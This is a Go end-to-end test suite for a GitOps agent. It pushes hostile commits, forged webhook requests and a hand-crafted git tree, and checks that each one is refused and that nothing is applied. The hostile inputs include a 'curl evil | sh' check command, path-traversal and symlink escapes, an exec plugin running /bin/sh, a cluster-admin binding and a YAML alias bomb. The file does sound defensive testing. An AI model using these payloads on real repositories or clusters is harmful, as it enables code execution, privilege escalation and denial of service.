package main

// Hostile input, end to end: a bundle is live on blue, then hostile commits
// arrive one after another. For each, the real agent must refuse it with an
// error naming the input (a revert whose message says why, or a logged
// refusal), apply nothing (no new object anywhere the bundle could reach) and
// leave live traffic alone (the stable Services keep selecting blue).

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/tandem-gitops/tandem/contract"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/tandem-gitops/tandem/testenv"
)

// hostileCommit is one hostile change to the bundle and how the agent must
// refuse it.
type hostileCommit struct {
	name string
	// change edits the developer's clone (under bundles/<ns>/).
	change func(s *scenario, dir string)
	// reverted: the agent answers with a revert commit whose message holds
	// want; otherwise it refuses in its log (want appears there) and writes
	// nothing, and the test undoes the change with a human git revert.
	reverted bool
	want     string
}

var hostileCommits = []hostileCommit{
	{"path-traversal", func(s *scenario, d string) {
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- ../../../../../../etc\n")
	}, true, "path resolves outside the repository root"},
	{"symlink-out-of-repo", func(s *scenario, d string) {
		must(s.t, os.Symlink("/etc/hostname", filepath.Join(s.clone, d, "app", "host.yaml")))
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- host.yaml\n")
	}, true, "app/host.yaml: symlink to /etc/hostname"},
	{"krm-exec-plugin", func(s *scenario, d string) {
		s.write(d+"/app/fn.yaml", "apiVersion: example.com/v1\nkind: Fn\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: /bin/sh\n")
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\ntransformers:\n- fn.yaml\n")
	}, true, "plugins and KRM functions are disabled"},
	{"remote-chart", func(s *scenario, d string) {
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\nhelmCharts:\n- name: evil\n  repo: https://charts.example.com\n  version: 1.0.0\n")
	}, true, "is not allowed (start the agent with --allow-remote-charts)"},
	{"chart-hook", func(s *scenario, d string) {
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\nhelmCharts:\n- name: evil\n")
		s.write(d+"/app/charts/evil/Chart.yaml", "apiVersion: v2\nname: evil\nversion: 0.1.0\n")
		s.write(d+"/app/charts/evil/templates/hook.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: hook\n  annotations:\n    helm.sh/hook: pre-install\n")
	}, true, "evil/templates/hook.yaml: ConfigMap hook is a helm hook (helm.sh/hook: pre-install)"},
	{"remote-base", func(s *scenario, d string) {
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- https://github.com/example/repo//base?ref=v1\n")
	}, true, "is not allowed (start the agent with --allow-remote-bases)"},
	{"billion-laughs", func(s *scenario, d string) {
		var b strings.Builder
		b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: lol\ndata:\n  a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n")
		for i := 1; i < 9; i++ {
			fmt.Fprintf(&b, "  a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 9), ","))
		}
		s.write(d+"/app/lol.yaml", b.String())
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- lol.yaml\n")
	}, true, "app/lol.yaml: YAML aliases expand"},
	{"cluster-scoped-in-colored-path", func(s *scenario, d string) {
		s.write(d+"/app/crb.yaml", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: hostile-pwn\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects:\n- {kind: ServiceAccount, name: default, namespace: default}\n")
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- crb.yaml\n")
	}, true, "cluster-scoped ClusterRoleBinding hostile-pwn is not allowed"},
	{"conflicting-stable-service", func(s *scenario, d string) {
		// Services server and server-blue: the stable twin of server-blue-blue
		// would be named server-blue, like the colored twin of server.
		s.write(d+"/app/extra.yaml", "apiVersion: v1\nkind: Service\nmetadata:\n  name: server-blue\nspec:\n  selector: {app: server}\n  ports:\n  - port: 8080\n")
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- extra.yaml\n")
	}, true, "the stable Service of this name conflicts"},
	{"duplicate-object", func(s *scenario, d string) {
		s.write(d+"/app/dup.yaml", appManifest(app{"server", "example/server:v9"}))
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- dup.yaml\n")
	}, true, "already registered id"},
	{"enormous-file", func(s *scenario, d string) {
		s.write(d+"/app/big.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n  a: \""+strings.Repeat("x", 5<<20)+"\"\n")
		s.write(d+"/app/kustomization.yaml", "resources:\n- server.yaml\n- big.yaml\n")
	}, true, "larger than the"},
	{"bundle-yaml-second-document", func(s *scenario, d string) {
		data, err := os.ReadFile(filepath.Join(s.clone, d, "bundle.yaml"))
		must(s.t, err)
		s.write(d+"/bundle.yaml", string(data)+"---\n"+strings.Replace(string(data), "namespace: "+s.ns, "namespace: kube-system", 1))
	}, true, "bundle.yaml: a second YAML document is not allowed"}, // a broken bundle.yaml fails that bundle: reverted
	{"bundle-yaml-unknown-field", func(s *scenario, d string) {
		data, err := os.ReadFile(filepath.Join(s.clone, d, "bundle.yaml"))
		must(s.t, err)
		s.write(d+"/bundle.yaml", string(data)+"  plugins: [exec]\n")
	}, true, `bundle.yaml: unknown field "spec.plugins"`},
	{"checks-unknown-kind", func(s *scenario, d string) {
		appendSpec(s, d, "  checks:\n  - name: pwn\n    shell: {command: \"curl evil | sh\"}\n")
	}, true, `unknown field "spec.checks[0].shell"`},
	{"checks-bad-url-template", func(s *scenario, d string) {
		appendSpec(s, d, "  checks:\n  - name: api\n    http: {url: \"http://x/${SECRET_TOKEN}\"}\n")
	}, true, "spec.checks[0].http.url: unknown variable ${SECRET_TOKEN}"},
	{"checks-absurd-count", func(s *scenario, d string) {
		appendSpec(s, d, "  checks:\n  - name: api\n    http: {url: \"http://x/\", count: 100000000, interval: 100ms}\n")
	}, true, "spec.checks[0].http.count: 100000000 is not between 1 and 1000"},
	{"checks-unparseable-query", func(s *scenario, d string) {
		appendSpec(s, d, "  checks:\n  - name: errors\n    prometheus: {query: \"sum(rate(x[1m])\", condition: \"< 0.01\"}\n")
	}, true, "spec.checks[0].prometheus.query: unclosed"},
	{"checks-job-without-its-job", func(s *scenario, d string) {
		appendSpec(s, d, "  checks:\n  - name: smoke\n    job: {}\n")
	}, true, "job check smoke has no Job with annotation tandem.dev/check: smoke"},
}

// appendSpec adds lines to the end of bundle.yaml (its spec is last).
func appendSpec(s *scenario, d, lines string) {
	data, err := os.ReadFile(filepath.Join(s.clone, d, "bundle.yaml"))
	must(s.t, err)
	s.write(d+"/bundle.yaml", string(data)+lines)
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// inventory lists every object of the kinds a bundle can create in ns, plus
// the cluster-scoped objects a hostile bundle might try to create.
func (s *scenario) inventory() []string {
	s.t.Helper()
	var out []string
	add := func(kind string, names ...string) {
		for _, n := range names {
			out = append(out, kind+"/"+n)
		}
	}
	deps, err := s.cs.AppsV1().Deployments(s.ns).List(s.ctx, metav1.ListOptions{})
	must(s.t, err)
	for _, d := range deps.Items {
		add("Deployment", d.Name)
		if d.Spec.Replicas != nil && *d.Spec.Replicas > 0 && d.Labels["tandem.dev/color"] != "blue" {
			out = append(out, "scaled-up/"+d.Name)
		}
	}
	svcs, err := s.cs.CoreV1().Services(s.ns).List(s.ctx, metav1.ListOptions{})
	must(s.t, err)
	for _, x := range svcs.Items {
		add("Service", x.Name)
	}
	cms, err := s.cs.CoreV1().ConfigMaps(s.ns).List(s.ctx, metav1.ListOptions{})
	must(s.t, err)
	for _, x := range cms.Items {
		add("ConfigMap", x.Name)
	}
	secs, err := s.cs.CoreV1().Secrets(s.ns).List(s.ctx, metav1.ListOptions{})
	must(s.t, err)
	for _, x := range secs.Items {
		add("Secret", x.Name)
	}
	crbs, err := s.cs.RbacV1().ClusterRoleBindings().List(s.ctx, metav1.ListOptions{})
	must(s.t, err)
	for _, x := range crbs.Items {
		if strings.HasPrefix(x.Name, "hostile") {
			add("ClusterRoleBinding", x.Name)
		}
	}
	for _, ns := range []string{"kube-system", "default"} {
		l, err := s.cs.AppsV1().Deployments(ns).List(s.ctx, metav1.ListOptions{LabelSelector: "tandem.dev/bundle"})
		must(s.t, err)
		for _, x := range l.Items {
			add("Deployment", ns+"/"+x.Name)
		}
	}
	sort.Strings(out)
	return out
}

// TestHostileCommits pushes each hostile commit at a bundle live on blue.
func TestHostileCommits(t *testing.T) {
	s := newScenario(t, "revert", "60s", app{"server", "example/server:v1"})
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	t.Cleanup(cancel)
	s.ctx = ctx
	s.start()
	want(t, s.waitCommits(1)[0], "promoted")
	s.wantSelectors("blue", "server")
	before := s.inventory()
	d := "bundles/" + s.ns
	agentCommits := 1
	for _, h := range hostileCommits {
		s.git(s.clone, "pull", "--quiet", "--rebase", "origin", "main")
		h.change(s, d)
		bad := s.push("hostile: " + h.name)
		if h.reverted {
			agentCommits++
			c := s.waitCommits(agentCommits)[0]
			want(t, c, "reverted")
			if c.Trailers["Tandem-Reverts"] != bad {
				t.Fatalf("%s: revert names %q, want %s", h.name, c.Trailers["Tandem-Reverts"], bad)
			}
			body := s.git(s.remote, "log", "-1", "--format=%B", c.Hash)
			if !strings.Contains(body, h.want) {
				t.Errorf("%s: the revert message does not say %q:\n%s", h.name, h.want, body)
			}
		} else {
			deadline := time.Now().Add(time.Minute)
			for !s.agent.LogContains(h.want) {
				if time.Now().After(deadline) {
					t.Fatalf("%s: no refusal %q in the agent log:\n%s", h.name, h.want, s.agent.LogTail())
				}
				time.Sleep(100 * time.Millisecond)
			}
			s.git(s.clone, "pull", "--quiet", "--rebase", "origin", "main")
			s.git(s.clone, "revert", "--no-edit", bad)
			s.git(s.clone, "push", "--quiet", "origin", "HEAD:main")
			if n := len(s.waitCommits(agentCommits)); n != agentCommits {
				t.Fatalf("%s: %d agent commits, want %d (a refused bundle.yaml writes nothing)", h.name, n, agentCommits)
			}
		}
		s.wantSelectors("blue", "server")
		if after := s.inventory(); strings.Join(after, " ") != strings.Join(before, " ") {
			t.Fatalf("%s: objects changed:\nbefore %v\nafter  %v", h.name, before, after)
		}
		t.Logf("%s: refused (%s), traffic on blue, nothing applied", h.name, h.want)
	}
	// Every human commit is still on the branch.
	if got, wantN := len(s.humanCommits()), 1+len(hostileCommits)+humanReverts(); got != wantN {
		t.Errorf("human commits on the branch: %d, want %d", got, wantN)
	}
	// Still healthy: a good commit after all that is promoted.
	s.setImage("server", "example/server:v2")
	s.push("server v2")
	want(t, s.waitCommits(agentCommits + 1)[0], "promoted")
	s.wantSelectors("green", "server")
}

// humanReverts is the number of human reverts TestHostileCommits pushes.
func humanReverts() int {
	n := 0
	for _, h := range hostileCommits {
		if !h.reverted {
			n++
		}
	}
	return n
}

// TestHostileRelease: a human edits release.yaml to name a color that does not
// exist. The running agent ignores release.yaml edits (no candidate); a
// restarted agent refuses the bundle with an error naming the file and the
// field, applies nothing, and leaves traffic on blue; once the edit is
// reverted the bundle is managed again.
func TestHostileRelease(t *testing.T) {
	s := newScenario(t, "revert", "60s", app{"server", "example/server:v1"})
	s.start()
	want(t, s.waitCommits(1)[0], "promoted")
	s.wantSelectors("blue", "server")
	before := s.inventory()
	s.git(s.clone, "pull", "--quiet", "--rebase", "origin", "main")
	rel := filepath.Join(s.clone, "bundles", s.ns, "release.yaml")
	data, err := os.ReadFile(rel)
	must(t, err)
	s.write("bundles/"+s.ns+"/release.yaml", strings.Replace(string(data), "live: blue", "live: red", 1))
	bad := s.push("hand-edit release.yaml: live red")
	must(t, s.agent.Stop(10*time.Second))
	s.start()
	deadline := time.Now().Add(time.Minute)
	const msg = `release.yaml: live: \"red\" is not one of the bundle's colors`
	for !s.agent.LogContains(msg) {
		if time.Now().After(deadline) {
			t.Fatalf("no refusal %q in the agent log:\n%s", msg, s.agent.LogTail())
		}
		time.Sleep(100 * time.Millisecond)
	}
	s.wantSelectors("blue", "server")
	if after := s.inventory(); strings.Join(after, " ") != strings.Join(before, " ") {
		t.Fatalf("objects changed:\nbefore %v\nafter  %v", before, after)
	}
	if n := len(s.waitCommits(1)); n != 1 {
		t.Fatalf("%d agent commits after the hostile release.yaml, want 1", n)
	}
	s.git(s.clone, "revert", "--no-edit", bad)
	s.git(s.clone, "push", "--quiet", "origin", "HEAD:main")
	s.setImage("server", "example/server:v2")
	s.push("server v2")
	want(t, s.waitCommits(2)[0], "promoted")
	s.wantSelectors("green", "server")
}

// freeAddr returns a 127.0.0.1 address with a port that was free just now.
func freeAddr(t testing.TB) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	addr := ln.Addr().String()
	must(t, ln.Close())
	return addr
}

// TestHostileWebhookRequests sends hostile requests to the real agent's
// /hooks/git: unsigned, badly signed, signed with another key, tampered,
// oversized and slow. Each is refused with the right status, none wakes the
// agent into a sync, and a correctly signed request still works.
func TestHostileWebhookRequests(t *testing.T) {
	s := newScenario(t, "revert", "60s", app{"server", "example/server:v1"})
	secretFile := filepath.Join(s.work, "webhook-secret")
	must(t, os.WriteFile(secretFile, []byte("hook-s3cret\n"), 0o600))
	addr := freeAddr(t)
	// Served over HTTP (no file watch) with a long poll interval: only the
	// webhook makes the agent look at the remote again.
	s.git(s.remote, "config", "http.receivepack", "true") // let git http-backend accept the agent's pushes
	url, stop, err := (&testenv.Remote{Path: s.remote}).ServeHTTP(s.ctx, nil)
	must(t, err)
	t.Cleanup(stop)
	s.start("--repo", url, "--webhook-secret-file", secretFile, "--metrics-addr", addr, "--interval", "1h")
	want(t, s.waitCommits(1)[0], "promoted")
	sign := func(key string, body []byte) string {
		m := hmac.New(sha256.New, []byte(key))
		m.Write(body)
		return "sha256=" + hex.EncodeToString(m.Sum(nil))
	}
	body := []byte(`{"ref":"refs/heads/main"}`)
	big := bytes.Repeat([]byte("x"), 2<<20)
	// A new commit the agent would act on if any hostile request woke it.
	s.setImage("server", "example/server:v2")
	v2 := s.push("server v2")
	for _, tc := range []struct {
		name string
		body []byte
		hdr  map[string]string
		code int
	}{
		{"unsigned", body, nil, 401},
		{"bad-signature", body, map[string]string{"X-Hub-Signature-256": "sha256=00"}, 401},
		{"other-key", body, map[string]string{"X-Hub-Signature-256": sign("guess", body)}, 401},
		{"tampered", append([]byte(" "), body...), map[string]string{"X-Hub-Signature-256": sign("hook-s3cret", body)}, 401},
		{"gitlab-wrong-token", body, map[string]string{"X-Gitlab-Token": "hook-s3cre"}, 401},
		{"oversized", big, map[string]string{"X-Hub-Signature-256": sign("hook-s3cret", big)}, 413},
	} {
		req, err := http.NewRequest("POST", "http://"+addr+"/hooks/git", bytes.NewReader(tc.body))
		must(t, err)
		for k, v := range tc.hdr {
			req.Header.Set(k, v)
		}
		resp, err := http.DefaultClient.Do(req)
		must(t, err)
		resp.Body.Close()
		if resp.StatusCode != tc.code {
			t.Errorf("%s: status %d, want %d", tc.name, resp.StatusCode, tc.code)
		}
	}
	time.Sleep(2 * time.Second) // a wrongly woken agent would pick v2 up now
	if s.agent.LogContains(contract.Short(v2)) {
		t.Fatalf("a refused webhook request woke the agent:\n%s", s.agent.LogTail())
	}
	s.wantSelectors("blue", "server")
	req, err := http.NewRequest("POST", "http://"+addr+"/hooks/git", bytes.NewReader(body))
	must(t, err)
	req.Header.Set("X-Hub-Signature-256", sign("hook-s3cret", body))
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("signed webhook: status %d, want 202", resp.StatusCode)
	}
	c := s.waitCommits(2)[0]
	want(t, c, "promoted")
	if c.Trailers["Tandem-Source"] != v2 {
		t.Fatalf("the signed webhook promoted %s, want %s", c.Trailers["Tandem-Source"], v2)
	}
}

// TestHostileGitTree pushes a commit whose tree was crafted by hand: in the
// bundle's directory, a symlink "x" to a directory outside and a file "x/evil". The
// agent must not write outside its checkout, must apply nothing, must name the
// path in its log, and must carry on once a newer commit fixes the branch.
func TestHostileGitTree(t *testing.T) {
	s := newScenario(t, "revert", "60s", app{"server", "example/server:v1"})
	s.start()
	want(t, s.waitCommits(1)[0], "promoted")
	before := s.inventory()
	outside := t.TempDir()
	s.git(s.clone, "pull", "--quiet", "--rebase", "origin", "main")
	good := s.git(s.clone, "rev-parse", "HEAD^{tree}")
	git := func(stdin string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = s.clone
		cmd.Stdin = strings.NewReader(stdin)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	link := git(outside, "hash-object", "-w", "--stdin")
	evil := git("pwned\n", "hash-object", "-w", "--stdin")
	sub := git("100644 blob "+evil+"\tevil\n", "mktree")
	// The crafted entries go into the bundle's directory (a change to the
	// bundle, so the agent checks the tip out); the trees above are rebuilt.
	replace := func(listing, name, tree string) string {
		var out []string
		for _, l := range strings.Split(listing, "\n") {
			if strings.HasSuffix(l, "\t"+name) {
				l = "040000 tree " + tree + "\t" + name
			}
			out = append(out, l)
		}
		return strings.Join(out, "\n") + "\n"
	}
	bundleTree := git(git("", "ls-tree", good+":bundles/"+s.ns)+"\n120000 blob "+link+"\tx\n040000 tree "+sub+"\tx\n", "mktree")
	bundlesTree := git(replace(git("", "ls-tree", good+":bundles"), s.ns, bundleTree), "mktree")
	tree := git(replace(git("", "ls-tree", good), "bundles", bundlesTree), "mktree")
	bad := git("", "commit-tree", tree, "-p", "HEAD", "-m", "hostile: crafted tree")
	s.git(s.clone, "push", "--quiet", "origin", bad+":refs/heads/main")
	s.waitLog(`x/evil\" goes through the symlink \"bundles/` + s.ns + `/x\"`)
	if e, _ := os.ReadDir(outside); len(e) != 0 {
		t.Fatalf("the agent wrote %s outside its checkout", e[0].Name())
	}
	s.wantSelectors("blue", "server")
	if after := s.inventory(); strings.Join(after, " ") != strings.Join(before, " ") {
		t.Fatalf("objects changed:\nbefore %v\nafter  %v", before, after)
	}
	// The crafted entries are in the bundle's directory: that bundle fails
	// alone, and its revert restores the directory without them.
	r := s.waitCommits(2)[0]
	want(t, r, "reverted")
	if r.Trailers["Tandem-Reverts"] != bad {
		t.Fatalf("the revert names %s, want the crafted commit %s", r.Trailers["Tandem-Reverts"], bad)
	}
	if ls := s.git(s.remote, "ls-tree", "--name-only", "main:bundles/"+s.ns); strings.Contains("\n"+ls+"\n", "\nx\n") {
		t.Fatalf("the revert left the crafted entry x in the bundle:\n%s", ls)
	}
	s.setImage("server", "example/server:v2")
	s.push("server v2")
	want(t, s.waitCommits(3)[0], "promoted")
	s.wantSelectors("green", "server")
	if e, _ := os.ReadDir(outside); len(e) != 0 {
		t.Fatalf("the agent wrote %s outside its checkout", e[0].Name())
	}
}
